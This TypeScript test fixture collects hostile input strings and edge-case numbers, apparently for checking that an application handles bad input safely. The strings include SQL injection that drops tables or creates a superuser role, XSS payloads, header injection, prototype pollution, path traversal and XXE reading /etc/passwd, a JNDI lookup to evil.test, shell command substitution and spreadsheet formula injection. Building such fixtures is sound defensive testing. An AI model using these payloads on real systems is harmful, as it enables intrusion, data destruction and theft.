/** Texts that did harm somewhere: what each would do if it were run, followed, filled in or cut. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'SQL that ends the string': "x'; update accounts set display_name = 'injected' where true; --",
  'SQL that ends the statement': '"); drop table marks; --',
  'SQL that is always true': "' or '1'='1",
  'SQL that waits': "'||(select pg_sleep(20))||'",
  'SQL with a dollar quote': '$$; create role injected superuser; $$',
  'a LIKE pattern': '%_%\\',
  quotes: `'"\`´’“”`,
  'a backslash at the end': 'C:\\lớp\\7A1\\',
  'a JavaScript template': '${globalThis.injected = 1}',
  'a template of other languages': '{{7*7}}<%= 7*7 %>#{7*7}${{7*7}}',
  'a script': '<script>globalThis.injected = 1</script>',
  'an event attribute': '"><img src=x onerror=alert(1)>',
  'a script address': 'javascript:alert(document.domain)',
  entities: '&lt;b&gt; &amp;amp; &#x202e;',
  'a header': 'x\r\nX-Injected: 1\r\nSet-Cookie: injected=1',
  'an encoded header': 'x%0d%0aX-Injected:%201',
  'a name of every object': '__proto__',
  'another name of every object': 'constructor',
  'a pollution path': '__proto__[injected]=1&constructor.prototype.injected=1',
  'a path upwards': '../../../../etc/passwd',
  'an encoded path upwards': '..%2f..%252f..%5cwindows',
  'a log line': 'x\n{"level":"info","msg":"injected"}',
  'a JNDI address': '${jndi:ldap://evil.test/a}',
  'a shell command': '$(touch injected); `touch injected` | touch injected',
  'a spreadsheet formula': "=cmd|' /C calc'!A0",
  'a formula with plus': '+SUM(1+1)*cmd',
  'text from right to left': 'Lê \u202Ethịb gnort\u202C An',
  'zero width letters': 'Lê\u200B Thị\u200D An\uFEFF',
  'half a character': 'An \uD800 Bình \uDC00',
  'letters in parts': 'Nguye\u0302\u0303n Thi\u0323 Ho\u00E0',
  emoji: '👩🏽‍🏫🇻🇳 7️⃣',
  'control characters': 'a\u0001\u0008\u001B[31mb\u007F\u0085',
  'line separators': 'a\u2028b\u2029c',
  'a file of XML': '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'a JSON text': '{"$gt":"","$ne":null}',
  'a long text': 'dài '.repeat(2_500),
};

/** Numbers that overflow, lose digits or are none, as JSON or an address would write them. */
export const hostileNumbers: readonly string[] = [
  ...['2147483647', '2147483648', '-2147483649', '4294967296', '9007199254740993', '9223372036854775808'],
  ...['1e21', '1e308', '1e400', '-1e400', '1e-400', '-0', '-1', '0.1', '1.0000000000000001', '10.05'],
  '9'.repeat(400),
];

/** Not even a number in JSON; of an address or a string they may be read as one. */
export const notNumbers: readonly string[] = [
  ...[
    'NaN',
    'Infinity',
    '-Infinity',
    '0x1F',
    '0b1',
    '1_000',
    '1,5',
    '٣',
    '１',
    '+1',
    '1 ',
    ' ',
    'null',
    'true',
    '[]',
  ],
];

/**
 * What of a text may be kept in its place, written anew and not taken from text.ts, which is tried with it: letters composed, line
 * ends of one kind, no other control characters, no halves of characters, no spaces around it. Nothing else may change.
 */
export function asKept(text: string): string {
  const letters = [...text.normalize('NFC').replaceAll('\r\n', '\n')].map((letter) => {
    const code = letter.codePointAt(0) ?? 0;
    if (code >= 0xd800 && code <= 0xdfff) return '\uFFFD';
    const isControl = code < 0x20 || (code >= 0x7f && code < 0xa0);
    return isControl && letter !== '\n' && letter !== '\t' ? '' : letter;
  });
  return letters.join('').trim();
}
